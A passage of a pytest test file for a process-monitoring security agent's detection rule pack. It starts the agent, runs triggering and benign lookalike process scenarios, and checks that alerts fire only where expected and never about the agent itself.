        time.sleep(1.0)   # let the shells reach their hold
        for key, pid in pids.items():
            try:
                rows[key] = proc_row(pid)
            except (OSError, StopIteration) as e:
                errors[key] = repr(e)
        yield rows, errors
    finally:
        lab.close()


@pytest.mark.root
@pytest.mark.parametrize("rule", sorted(SCENARIOS))
def test_scenarios_match_rules_without_agent(proc_rows, rule):
    """The real processes of the end-to-end tests, read from /proc and run
    through every rule's SQL: the fire scenario trips its rule, the benign one
    does not. Keeps the scenarios honest even before the agent exists."""
    rows, errors = proc_rows
    for kind in ("fire", "quiet"):
        assert (rule, kind) not in errors, errors.get((rule, kind))
        r = rows[(rule, kind)]
        names, hits = eval_rule(RULES[rule]["sql"], r)
        assert bool(hits) == (kind == "fire"), f"{kind}: {r['command_line']!r} {r['executable_path']!r}"


def open_tree(path):
    """Lets the agent's unprivileged user reach path (pytest makes its tree 0700)."""
    p = Path(path)
    os.chmod(p, 0o777)
    p = p.parent
    while p != p.parent and str(p).startswith(("/tmp/", "/var/tmp/")):
        os.chmod(p, 0o755)
        p = p.parent


class PackRun:
    """The agent, the launched scenarios and what the agent made of them."""

    def __init__(self, data):
        self.data = data
        self.sink = data / "alerts.jsonl"
        self.db = data / "events.db"
        self.pids = {}      # (rule, "fire"|"quiet") -> pid
        self.errors = {}    # (rule, kind) -> why the scenario could not start
        self.alerts = {}    # (rule_id, pid) -> alert object
        self.seen = set()   # pids the store holds

    def read_alerts(self):
        try:
            text = self.sink.read_text(errors="replace")
        except FileNotFoundError:
            return
        for line in text.splitlines():
            try:
                a = json.loads(line)
            except ValueError:
                continue
            pid = (a.get("process") or {}).get("pid")
            if pid is None:
                pid = (a.get("match") or {}).get("pid")
            self.alerts[(a.get("rule_id"), pid)] = a

    def read_seen(self):
        if not self.db.exists():
            return
        try:
            con = sqlite3.connect(f"file:{self.db}?mode=ro", uri=True, timeout=2)
            try:
                for table in ("process_instances", "process_events", "live_processes"):
                    try:
                        self.seen.update(r[0] for r in con.execute(f"SELECT pid FROM {table}"))
                    except sqlite3.Error:
                        pass
            finally:
                con.close()
        except sqlite3.Error:
            pass


def write_config(data, procmond):
    cfg = data / "config.yaml"
    cfg.write_text(json.dumps({
        "agent": {"data_dir": str(data)},
        "detection": {"rules_dirs": [str(RULES_DIR)]},
        "alerting": {
            "dedup_window_s": 300,
            "max_alerts_per_minute": 100000,
            "sinks": [{"type": "file", "path": str(data / "alerts.jsonl"), "format": "json"}],
        },
        "collectors": [{"id": "procmond", "binary": str(procmond), "args": [], "spawn": True}],
    }, indent=2))   # JSON is YAML
    return cfg


def tail(path, n=3000):
    try:
        return Path(path).read_text(errors="replace")[-n:]
    except OSError:
        return ""


def session_pids(sid):
    """The pids of the agent's session: supervisor, engine, procmond."""
    pids = set()
    for d in Path("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            stat = (d / "stat").read_text(errors="replace")
        except OSError:
            continue
        fields = stat[stat.rfind(")") + 2:].split()
        if len(fields) > 3 and int(fields[3]) == sid:
            pids.add(int(d.name))
    return pids


@pytest.fixture(scope="module")
def pack(tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("needs root: scenarios chown a setuid binary and write /var/log")
    agent = BUILD / "src" / "agent" / "daemoneye-agent"
    procmond = BUILD / "src" / "procmond" / "procmond"
    for b in (agent, procmond):
        if not b.exists():
            pytest.skip(f"{b} is not built yet: the rule pack's end-to-end tests need it")
    data = tmp_path_factory.mktemp("rulepack") / "data"
    data.mkdir()
    open_tree(data)
    cfg = write_config(data, procmond)
    out = open(data.parent / "agent.out", "wb")
    err = open(data.parent / "agent.err", "wb")
    proc = subprocess.Popen([str(agent), "--config", str(cfg), "--log-level", "info"],
                            stdin=subprocess.DEVNULL, stdout=out, stderr=err,
                            start_new_session=True)
    run = PackRun(data)
    lab = Lab()
    try:
        # Ready when procmond's first snapshot is in the store.
        end = time.monotonic() + 30
        while time.monotonic() < end and proc.poll() is None:
            run.read_seen()
            if run.seen:
                break
            time.sleep(0.2)
        if proc.poll() is not None or not run.seen:
            pytest.fail(f"the agent did not come up (exit {proc.poll()}):\n"
                        f"{tail(data.parent / 'agent.err')}")

        for rule, (fire, quiet) in SCENARIOS.items():
            for kind, fn in (("fire", fire), ("quiet", quiet)):
                try:
                    run.pids[(rule, kind)] = fn(lab)
                except Exception as e:  # a scenario that cannot start fails its own test
                    run.errors[(rule, kind)] = repr(e)

        def settled():
            run.read_alerts()
            run.read_seen()
            fired = all((r, pid) in run.alerts for (r, k), pid in run.pids.items() if k == "fire")
            seen = all(pid in run.seen for (r, k), pid in run.pids.items() if k == "quiet")
            return fired and seen

        end = time.monotonic() + FIRE_TIMEOUT
        while time.monotonic() < end and not settled():
            time.sleep(0.2)
        # Anything a rule would raise for a benign process arrives within
        # milliseconds of its ingestion; wait a little longer to be sure.
        time.sleep(QUIET_GRACE)
        run.read_alerts()
        run.read_seen()
        run.own = session_pids(proc.pid)
        run.agent_err = data.parent / "agent.err"
        yield run
    finally:
        lab.close()
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(10)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()
        out.close()
        err.close()


@pytest.mark.root
@pytest.mark.parametrize("rule", sorted(SCENARIOS))
def test_rule_fires_on_real_process(pack, rule):
    assert (rule, "fire") not in pack.errors, pack.errors.get((rule, "fire"))
    pid = pack.pids[(rule, "fire")]
    a = pack.alerts.get((rule, pid))
    assert a is not None, (
        f"no {rule} alert for pid {pid} (seen by the store: {pid in pack.seen}); "
        f"alerts for that pid: {sorted(r for (r, p) in pack.alerts if p == pid)}")
    assert a["severity"] == RULES[rule]["severity"]
    assert a["rule_name"] == RULES[rule]["name"]
    assert a["process"]["pid"] == pid
    assert a["match"]["pid"] == pid, "the match carries the columns the rule selected"


@pytest.mark.root
@pytest.mark.parametrize("rule", sorted(SCENARIOS))
def test_benign_lookalike_is_quiet(pack, rule):
    assert (rule, "quiet") not in pack.errors, pack.errors.get((rule, "quiet"))
    pid = pack.pids[(rule, "quiet")]
    assert pid in pack.seen, f"the agent never stored benign pid {pid}: cannot conclude"
    assert (rule, pid) not in pack.alerts, json.dumps(pack.alerts[(rule, pid)])


@pytest.mark.root
def test_daemoneye_raises_no_alert_about_itself(pack):
    """Start-up of the agent and procmond (forks, privilege drops, the user
    lookup) must not look like an attack to the bundled pack: procmond once
    forked its user lookup after its sources opened, and the root child of a
    parent that had just dropped to nobody fired privesc-unprivileged-parent."""
    assert len(pack.own) >= 3, f"agent session not found: {pack.own}"
    # Rules about where an image lives rightly fire when the build itself is
    # in such a place (a clone in /tmp, as CI's is): not what is tested here.
    by_location = {"exec-from-world-writable", "exec-from-hidden-path"}

    def explained(a):
        exe = (a.get("process") or {}).get("executable_path") or ""
        return a.get("rule_id") in by_location and exe.startswith(str(BUILD.resolve()) + "/")

    ours = [a for a in pack.alerts.values()
            if ((a.get("process") or {}).get("pid") in pack.own
                or (a.get("process") or {}).get("ppid") in pack.own
                or (a.get("process") or {}).get("name") in ("procmond", "daemoneye-agent"))
            and not explained(a)]
    assert not ours, json.dumps(ours[:3])
